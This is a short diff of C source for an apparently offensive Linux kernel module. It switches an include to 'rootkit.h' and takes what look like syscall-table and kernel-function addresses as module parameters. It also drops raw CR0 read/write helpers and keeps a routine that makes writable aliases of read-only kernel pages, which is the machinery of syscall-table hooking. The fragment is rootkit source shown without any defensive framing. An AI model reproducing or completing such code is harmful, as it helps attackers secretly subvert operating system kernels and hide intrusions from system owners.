@@ -25,23 +25,11 @@
 #include <asm/desc.h>
 #include <asm/processor-flags.h>
 #include <asm/special_insns.h>
-#include "nofault.h"
+#include "rootkit.h"
 
 static unsigned long sct, mpp;
 module_param(sct, ulong, 0);
 module_param(mpp, ulong, 0);
-
-static unsigned long raw_read_cr0(void)
-{
-	unsigned long v;
-	asm volatile("mov %%cr0, %0" : "=r"(v));
-	return v;
-}
-
-static void raw_write_cr0(unsigned long v)
-{
-	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
-}
 
 /* A writable alias of the page holding kernel address `va`; *off gets va's offset in it. */
 static void *alias(unsigned long va, unsigned long *off)
